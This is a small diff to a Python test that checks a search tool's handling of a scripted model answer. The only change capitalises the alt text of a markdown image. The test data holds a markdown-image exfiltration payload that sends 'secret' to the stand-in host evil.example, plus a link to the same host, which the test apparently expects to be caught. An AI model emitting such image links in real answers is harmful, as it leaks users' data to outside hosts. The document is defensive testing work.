@@ -116,7 +116,7 @@ def test_a_model_may_check_the_conflicts(server: SearchServer, memory: MemoryMan
 def test_a_models_answer_is_checked(server: SearchServer, memory: MemoryManager) -> None:
     model = ScriptedModel(
         "It opened in 1987 [2]. Some say 1999 [9]. It is lovely. "
-        "![pixel](https://evil.example/?q=secret) More [here](https://evil.example/x)."
+        "![Pixel](https://evil.example/?q=secret) More [here](https://evil.example/x)."
     )
     result = search(memory=memory, web=server.url, model=model)
     assert "It opened in 1987 [2]." in result.answer
